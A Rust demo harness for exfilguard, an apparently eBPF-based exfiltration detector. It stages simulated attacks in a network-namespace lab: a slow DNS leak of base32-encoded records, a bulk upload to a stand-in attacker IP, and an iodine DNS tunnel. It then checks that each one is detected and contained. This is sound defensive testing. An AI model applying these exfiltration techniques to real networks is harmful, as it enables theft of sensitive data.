//! `cargo xtask demo`: a small company in network namespaces, a live
//! exfiltration, and exfilguard catching and containing it.
//!
//! The lab: one namespace for the workloads (each its own cgroup, as pods
//! are), one "outside" namespace holding the resolver, a partner API, the
//! legitimate backup host and the attacker — addresses that exist only inside
//! the lab, with no default route anywhere. exfilguard runs as it would on a
//! single host: the controller with its SQLite file and mTLS, the agent with
//! its eBPF programs on the lab's cgroup.
use std::{
    net::{IpAddr, Ipv4Addr},
    path::PathBuf,
    time::{Duration, Instant},
};

use anyhow::{Context as _, bail};
use exfilguard_controller::time::now_ms;
use exfilguard_proto::v1::{
    DetectionKind, Incident, IncidentEvent, IncidentEventKind, IncidentState,
};
use exfilguard_tests::{
    Lab, TestCgroup,
    cgroup::cgroup_root,
    dns::{self, DnsRecord, DnsServer, Transport},
    process::python3,
    traffic::{self, TcpSink},
    tunnel::{IodineClient, IodineServer},
};

use crate::{
    interrupted, scripts,
    stack::{Stack, StackConfig},
    upload::{self, Upload},
};

/// The runbook's LargeDataTransfer: 100 MB in 10 minutes.
const THRESHOLD: u64 = 100_000_000;
/// The bulk upload's pace (a fast but unremarkable uplink).
const BULK_RATE: u64 = 40_000_000;
/// What the bulk upload would send if nobody stopped it.
const BULK_TOTAL: u64 = 400_000_000;
/// The legitimate nightly backup.
const BACKUP_BYTES: u64 = 150_000_000;

const PARTNER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 10);
const ATTACKER: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 66);
const BACKUP: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 20);
const LEAK_DOMAIN: &str = "cdn-metrics.example";
/// The tunnel's name server (iodined) and zone.
const TUNNEL_NS: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 53);
const TUNNEL_ZONE: &str = "t.cdn-sync.example";

/// Names an ordinary service looks up: the partner API, cluster services
/// with their search-path expansions, cloud and CDN hosts.
const BENIGN_NAMES: &[&str] = &[
    "api.partner-bank.example",
    "payments-db.shop.svc.cluster.local",
    "payments-db.shop.svc.cluster.local.shop.svc.cluster.local",
    "redis.shop.svc.cluster.local",
    "kafka-0.kafka-headless.data.svc.cluster.local",
    "auth.shop.svc.cluster.local",
    "s3.eu-central-1.amazonaws.com",
    "sts.amazonaws.com",
    "d1a2b3c4d5e6f7.cloudfront.net",
    "fonts.gstatic.com",
    "www.googleapis.com",
    "login.microsoftonline.com",
    "api.stripe.com",
    "hooks.slack.com",
    "o123456.ingest.sentry.io",
    "registry-1.docker.io",
    "_dmarc.partner-bank.example",
    "selector1._domainkey.partner-bank.example",
    "_https._tcp.api.partner-bank.example",
    "2.113.0.203.in-addr.arpa",
];

/// Options of `demo`.
pub struct Options {
    /// Where the certificates, store, journal and reports go.
    pub out: PathBuf,
    /// Leave everything running until Ctrl-C.
    pub keep: bool,
}

pub(crate) fn clock(ms: u64) -> String {
    let s = ms / 1000;
    format!(
        "{:02}:{:02}:{:02}.{:03}",
        (s / 3600) % 24,
        (s / 60) % 60,
        s % 60,
        ms % 1000
    )
}

pub(crate) fn mb(bytes: u64) -> String {
    format!("{:.1} MB", bytes as f64 / 1e6)
}

fn step(text: &str) {
    println!("\n\x1b[1m▶ {text}\x1b[0m");
}

pub(crate) fn note(text: &str) {
    println!("  {text}");
}

pub(crate) fn short_workload(i: &Incident) -> String {
    i.workload
        .as_ref()
        .map(|w| {
            w.cgroup_path
                .rsplit('/')
                .next()
                .unwrap_or(&w.cgroup_path)
                .to_string()
        })
        .unwrap_or_default()
}

fn kind_name(raw: i32) -> String {
    DetectionKind::try_from(raw)
        .map(|k| {
            k.as_str_name()
                .trim_start_matches("DETECTION_KIND_")
                .to_ascii_lowercase()
        })
        .unwrap_or_else(|_| raw.to_string())
}

fn state_name(raw: i32) -> String {
    IncidentState::try_from(raw)
        .map(|k| {
            k.as_str_name()
                .trim_start_matches("INCIDENT_STATE_")
                .to_ascii_lowercase()
        })
        .unwrap_or_else(|_| raw.to_string())
}

/// Prints one live line per incident event.
fn live_line(e: &IncidentEvent) {
    let Some(i) = &e.incident else { return };
    let what = match IncidentEventKind::try_from(e.kind) {
        Ok(IncidentEventKind::Opened) => "opened →",
        Ok(IncidentEventKind::StateChanged) => "→",
        _ => return,
    };
    let last = i.timeline.last().map(|t| t.cause.as_str()).unwrap_or("");
    println!(
        "  \x1b[31m● {} incident {} {what} {}\x1b[0m  {} {}: {}",
        clock(now_ms()),
        i.id,
        state_name(i.state),
        kind_name(i.kind),
        short_workload(i),
        last.chars().take(110).collect::<String>()
    );
}

/// Runs the demo; `Ok(true)` when every expectation held.
pub fn run(opts: &Options) -> anyhow::Result<bool> {
    std::fs::create_dir_all(&opts.out)
        .with_context(|| format!("creating {}", opts.out.display()))?;
    let out = std::fs::canonicalize(&opts.out)?;
    println!(
        "\x1b[1mexfilguard demo\x1b[0m: a live exfiltration, caught and contained (standalone: one host, no Kubernetes)"
    );

    step("Building the lab");
    let lab = Lab::new();
    for a in [PARTNER, ATTACKER, BACKUP, TUNNEL_NS] {
        lab.add_peer_addr(a.into());
    }
    let resolver: IpAddr = lab.peer_v4().into();
    let root = cgroup_root();
    let company =
        TestCgroup::named_under(&root, &format!("exfilguard-demo-{}", std::process::id()));
    let payments = TestCgroup::named_under(company.path(), "payments-api");
    let backup = TestCgroup::named_under(company.path(), "nightly-backup");
    let exporter = TestCgroup::named_under(company.path(), "report-exporter");
    let crm = TestCgroup::named_under(company.path(), "crm-sync");
    let ml = TestCgroup::named_under(company.path(), "ml-worker");
    note(&format!(
        "namespaces {} (workloads) and {} (outside), joined by a veth pair; no default route",
        lab.client().name(),
        lab.peer().name()
    ));
    note(&format!(
        "outside: resolver {resolver}, partner API {PARTNER}, backup host {BACKUP}, attacker {ATTACKER}, \
         the attacker's DNS tunnel server (iodined) {TUNNEL_NS}"
    ));
    note(&format!(
        "workloads (cgroups under {}): payments-api, nightly-backup, report-exporter, crm-sync, ml-worker",
        company.path().display()
    ));
    let records = [
        DnsRecord::address("api.partner-bank.example", PARTNER.into()),
        DnsRecord::address("backup.corp.example", BACKUP.into()),
        DnsRecord::address("svc.cluster.local", lab.peer_v4().into()),
        DnsRecord::address("amazonaws.com", PARTNER.into()),
        DnsRecord::address("cloudfront.net", PARTNER.into()),
        DnsRecord::txt("_dmarc.partner-bank.example", "v=DMARC1; p=reject"),
    ];
    let dns_server = DnsServer::start(lab.peer(), resolver, &records);
    let partner_sink = TcpSink::start(lab.peer(), (PARTNER, 443).into());
    let backup_sink = TcpSink::start(lab.peer(), (BACKUP, 9000).into());
    let attacker_sink = lab.peer().spawn(
        None,
        &[
            python3(),
            "-c",
            scripts::PROGRESS_SINK,
            &ATTACKER.to_string(),
            "443",
            "2",
        ],
    );
    attacker_sink.wait_for_line(
        "attacker listening",
        |l| l == "ready",
        Duration::from_secs(10),
    );

    step("Starting exfilguard (controller + agent)");
    let policy = format!(
        "# The runbook's rules: LargeDataTransfer > 100 MB in 10 min; DNS exfiltration.\n\
         action: lockdown\n\
         allowlist:\n  cidrs: [{BACKUP}/32]   # the backup target: counted, never an alarm\n"
    );
    let stack = Stack::start(&StackConfig {
        out: &out,
        attach: company.path(),
        cgroup_root: &root,
        agent_policy: &policy,
        internal: &["10.0.0.0/8", "fd00::/8"],
        poll_interval: "1s",
    })?;
    note(&format!(
        "controller {} (SQLite {}, mTLS, certificates in {})",
        stack.endpoint,
        out.join("controller.db").display(),
        out.join("pki").display()
    ));
    note(&format!(
        "agent on {} — eBPF on {}, metrics http://{}/metrics",
        crate::stack::NODE,
        company.path().display(),
        stack.metrics
    ));
    note(
        "policy: 100 MB external egress in 10 min, DNS exfiltration rules, action lockdown, backup host allowlisted; counters read every 1 s (the default)",
    );
    stack.watch(|e| live_line(&e));

    step("Scenario: a slow DNS leak starts in the background (crm-sync)");
    note(&format!(
        "32 bytes of customer records per query, base32 in the name, 2 queries/s to *.{LEAK_DOMAIN}: \
         64 B/s, below any rate alarm"
    ));
    let leak_started = Instant::now();
    let leak = lab.client().spawn(
        Some(&crm),
        &[
            python3(),
            "-c",
            scripts::DNS_LEAK,
            &resolver.to_string(),
            LEAK_DOMAIN,
            "0.5",
            "400",
        ],
    );

    step("Scenario: a normal workload (payments-api)");
    for name in BENIGN_NAMES {
        let qtype = if name.starts_with("_dmarc") || name.contains("_domainkey") {
            "TXT"
        } else if name.starts_with("_https") {
            "SRV"
        } else if name.ends_with(".arpa") {
            "PTR"
        } else {
            "A"
        };
        dns::dig(
            lab.client(),
            Some(&payments),
            resolver,
            name,
            qtype,
            Transport::Udp,
        );
        check_interrupt()?;
    }
    for _ in 0..3 {
        traffic::send_tcp(lab.client(), &payments, partner_sink.addr(), 1_500_000);
    }
    note(&format!(
        "{} DNS lookups (cluster services, search-path expansions, CDN and cloud hosts, DMARC/DKIM, SRV, PTR) and 3 × 1.5 MB to the partner API",
        BENIGN_NAMES.len()
    ));

    step("Scenario: the nightly backup to the allowlisted backup host (nightly-backup)");
    let t = Instant::now();
    traffic::send_tcp(lab.client(), &backup, backup_sink.addr(), BACKUP_BYTES);
    note(&format!(
        "{} to {BACKUP}:9000 in {:.1} s — above the threshold, but an allowlisted destination",
        mb(BACKUP_BYTES),
        t.elapsed().as_secs_f64()
    ));
    check_interrupt()?;

    step("Scenario: a bulk upload to an unknown host (report-exporter)");
    note(&format!(
        "customer records to {ATTACKER}:443 at {}/s; {} if nobody stops it",
        mb(BULK_RATE),
        mb(BULK_TOTAL)
    ));
    let bulk = upload::run(
        &Upload {
            lab: &lab,
            cg: &exporter,
            sink: &attacker_sink,
            stack: &stack,
            to: (ATTACKER, 443).into(),
            total: BULK_TOTAL,
            rate: BULK_RATE,
            threshold: THRESHOLD,
        },
        true,
    )?;
    note(&format!(
        "the attacker received {} ({})",
        mb(bulk.received),
        bulk.sender_end
    ));
    check_interrupt()?;

    step("Scenario: a DNS tunnel (iodine) from ml-worker");
    note(&format!(
        "iodine tunnels IP over DNS queries for {TUNNEL_ZONE} to iodined at {TUNNEL_NS}; then 2 MB through it"
    ));
    let tunnel = dns_tunnel(&lab, &ml, &stack)?;
    check_interrupt()?;

    step("Waiting for the slow DNS leak to be caught");
    let leak_deadline = leak_started + Duration::from_secs(180);
    let leak_incident = loop {
        let found = stack
            .incidents()?
            .into_iter()
            .find(|i| short_workload(i) == "crm-sync");
        if let Some(i) = found {
            break Some(i);
        }
        if Instant::now() > leak_deadline {
            break None;
        }
        check_interrupt()?;
        std::thread::sleep(Duration::from_millis(500));
    };
    let leak_secs = leak_started.elapsed().as_secs_f64();
    let leak_sent = leak
        .transcript()
        .lines()
        .filter(|l| l.contains("] sent "))
        .count();
    // A moment for the Block to land and for any late false alarm to show.
    std::thread::sleep(Duration::from_secs(2));
    let leak_blocked = leak.transcript().contains("blocked ");

    // Bystanders still work.
    let bystander_ok = traffic::try_send_tcp(
        lab.client(),
        &payments,
        partner_sink.addr(),
        100_000,
        Duration::from_secs(3),
    )
    .is_ok();
    let exporter_blocked = traffic::try_send_tcp(
        lab.client(),
        &exporter,
        partner_sink.addr(),
        10_000,
        Duration::from_secs(2),
    )
    .is_err();

    let incidents = stack.incidents()?;
    let false_alarms: Vec<&Incident> = incidents
        .iter()
        .filter(|i| {
            matches!(
                short_workload(i).as_str(),
                "payments-api" | "nightly-backup"
            )
        })
        .collect();
    let exporter_incident = incidents
        .iter()
        .find(|i| short_workload(i) == "report-exporter");

    step("Incidents, as exfilctl shows them");
    let list = stack.exfilctl("viewer", &["incidents", "list"])?;
    print!("{}", String::from_utf8_lossy(&list.stdout));

    let mut report_path = None;
    if let Some(i) = exporter_incident {
        step(&format!("Report of {}", i.id));
        let md = stack.exfilctl("viewer", &["incidents", "report", &i.id])?;
        print!("{}", String::from_utf8_lossy(&md.stdout));
        let path = out.join(format!("{}.md", i.id));
        std::fs::write(&path, &md.stdout)?;
        if let Ok(html) = stack.exfilctl(
            "viewer",
            &["incidents", "report", &i.id, "--format", "html"],
        ) {
            let path = out.join(format!("{}.html", i.id));
            std::fs::write(&path, &html.stdout)?;
            report_path = Some(path);
        } else {
            report_path = Some(path);
        }
    }

    // Expectations.
    let mut checks: Vec<(bool, String)> = Vec::new();
    let contained = |i: Option<&Incident>| {
        i.is_some_and(|i| {
            i.state == IncidentState::Contained as i32
                && i.timeline
                    .iter()
                    .any(|t| t.cause.contains("in-kernel Block applied"))
        })
    };
    checks.push((
        contained(exporter_incident),
        "bulk upload: volume incident, contained in the kernel".into(),
    ));
    checks.push((
        bulk.sender_end.starts_with("stopped"),
        format!(
            "bulk upload stopped before it finished ({})",
            bulk.sender_end
        ),
    ));
    checks.push((
        contained(leak_incident.as_ref()),
        format!("slow DNS leak: incident, contained (after {leak_secs:.0} s, {leak_sent} queries)"),
    ));
    checks.push((
        leak_blocked,
        "slow DNS leak: further queries refused by the kernel".into(),
    ));
    checks.push((
        contained(tunnel.incident.as_ref()),
        "DNS tunnel: incident, contained in the kernel".into(),
    ));
    checks.push((
        // The benchmark holds it to the 10 s goal; a loaded CI machine gets slack here.
        tunnel.detected_s.is_some_and(|s| s <= 15.0),
        format!(
            "DNS tunnel detected within 15 s ({})",
            tunnel
                .detected_s
                .map_or("not detected".into(), |s| format!("{s:.1} s"))
        ),
    ));
    checks.push((
        !tunnel.pushed_all,
        format!(
            "DNS tunnel: the 2 MB did not get through ({})",
            tunnel.outcome
        ),
    ));
    checks.push((
        exporter_blocked,
        "report-exporter cannot reach anyone after containment".into(),
    ));
    checks.push((
        bystander_ok,
        "payments-api still works (containment touched nobody else)".into(),
    ));
    checks.push((
        false_alarms.is_empty(),
        format!("false alarms: {}", false_alarms.len()),
    ));
    let detect_ms = bulk.detected_ms.saturating_sub(bulk.crossed_ms);
    let contain_ms = bulk.last_byte_ms.saturating_sub(bulk.crossed_ms);
    checks.push((
        bulk.detected_ms > 0 && detect_ms <= 2_000,
        format!("detected within 2 s of the threshold ({detect_ms} ms)"),
    ));
    checks.push((
        bulk.last_byte_ms > 0 && contain_ms <= 3_000,
        format!("contained within 3 s of the threshold ({contain_ms} ms)"),
    ));

    step("Summary");
    note(&format!(
        "threshold crossed       {}",
        clock(bulk.crossed_ms)
    ));
    note(&format!(
        "detected after          {detect_ms} ms   (threshold crossed → incident opened at the controller)"
    ));
    note(&format!(
        "contained after         {contain_ms} ms   (threshold crossed → the attacker's last byte; the kernel drops the rest)"
    ));
    if bulk.block_ack_ms > 0 {
        note(&format!(
            "Block confirmed after   {} ms   (agent's acknowledgement in the timeline)",
            bulk.block_ack_ms.saturating_sub(bulk.crossed_ms)
        ));
    }
    note(&format!(
        "bytes that left         {} before containment ({} past the threshold) of {} attempted",
        mb(bulk.received),
        mb(bulk.received.saturating_sub(THRESHOLD)),
        mb(BULK_TOTAL)
    ));
    note(&format!(
        "slow DNS leak           caught after {leak_secs:.0} s ({leak_sent} queries, ~{} B encoded)",
        leak_sent * 32
    ));
    if let Some(s) = tunnel.detected_s {
        note(&format!(
            "DNS tunnel (iodine)     detected {s:.1} s after it started; {}",
            tunnel.outcome
        ));
    }
    note(&format!("false alarms            {}", false_alarms.len()));
    if let Some(p) = &report_path {
        note(&format!("report                  {}", p.display()));
    }
    println!();
    let mut ok = true;
    for (pass, what) in &checks {
        ok &= *pass;
        println!(
            "  {} {what}",
            if *pass {
                "\x1b[32m✔\x1b[0m"
            } else {
                "\x1b[31m✘\x1b[0m"
            }
        );
    }
    drop(dns_server);

    if opts.keep {
        let viewer = stack.write_exfilctl_config("viewer")?;
        let responder = stack.write_exfilctl_config("responder")?;
        let bin = exfilguard_tests::process::workspace_bin("exfilctl");
        step("Kept running (--keep): poke at it, Ctrl-C to clean up");
        note(&format!(
            "{} --config {} incidents list",
            bin.display(),
            viewer.display()
        ));
        note(&format!(
            "{} --config {} incidents watch",
            bin.display(),
            viewer.display()
        ));
        if let Some(i) = exporter_incident {
            note(&format!(
                "{} --config {} incidents release {} --reason 'demo over'",
                bin.display(),
                responder.display(),
                i.id
            ));
        }
        note(&format!(
            "curl -s http://{}/metrics | grep exfilguard_",
            stack.metrics
        ));
        note(&format!(
            "python3 tests/python/generic_client.py (reflection + health) against {}",
            stack.endpoint
        ));
        while !interrupted() {
            std::thread::sleep(Duration::from_millis(200));
        }
    }
    step("Cleaning up the lab");
    Ok(ok)
}

pub(crate) fn check_interrupt() -> anyhow::Result<()> {
    if interrupted() {
        bail!("interrupted");
    }
    Ok(())
}

/// What the DNS tunnel scenario saw.
struct Tunnel {
    incident: Option<Incident>,
    /// Seconds from starting iodine to the incident.
    detected_s: Option<f64>,
    /// Whether the whole push went through.
    pushed_all: bool,
    /// One line on how the tunnel ended.
    outcome: String,
}

/// Starts iodined outside and iodine in `cg`, pushes 2 MB through the
/// tunnel, and waits (bounded) for the incident.
fn dns_tunnel(lab: &Lab, cg: &TestCgroup, stack: &Stack) -> anyhow::Result<Tunnel> {
    let server = IodineServer::start(lab.peer(), TUNNEL_NS.into(), TUNNEL_ZONE);
    let sink = TcpSink::start(lab.peer(), (server.tunnel_ip(), 9200).into());
    let started = now_ms();
    let client = IodineClient::try_connect(
        lab.client(),
        cg,
        TUNNEL_NS.into(),
        TUNNEL_ZONE,
        Duration::from_secs(30),
    );
    let (pushed_all, outcome) = match &client {
        Ok(_) => {
            note(&format!(
                "{} tunnel up (ml-worker ⇄ {}); pushing 2 MB through it",
                clock(now_ms()),
                server.tunnel_ip()
            ));
            match traffic::try_send_tcp(
                lab.client(),
                cg,
                sink.addr(),
                2_000_000,
                Duration::from_secs(10),
            ) {
                Ok(_) => (true, "the 2 MB went through".to_string()),
                Err(e) => (
                    false,
                    format!(
                        "the push through the tunnel stalled ({})",
                        e.to_string().lines().next().unwrap_or("")
                    ),
                ),
            }
        }
        Err(_) => (
            false,
            "contained during iodine's handshake: the tunnel never came up".to_string(),
        ),
    };
    let deadline = Instant::now() + Duration::from_secs(20);
    let incident = loop {
        if let Some(i) = stack
            .incidents()?
            .into_iter()
            .find(|i| short_workload(i) == cg.name())
        {
            break Some(i);
        }
        if Instant::now() > deadline {
            break None;
        }
        check_interrupt()?;
        std::thread::sleep(Duration::from_millis(200));
    };
    let detected_s = incident
        .as_ref()
        .map(|i| i.opened_at_unix_ms.saturating_sub(started) as f64 / 1000.0);
    note(&outcome);
    drop(client);
    Ok(Tunnel {
        incident,
        detected_s,
        pushed_all,
        outcome,
    })
}
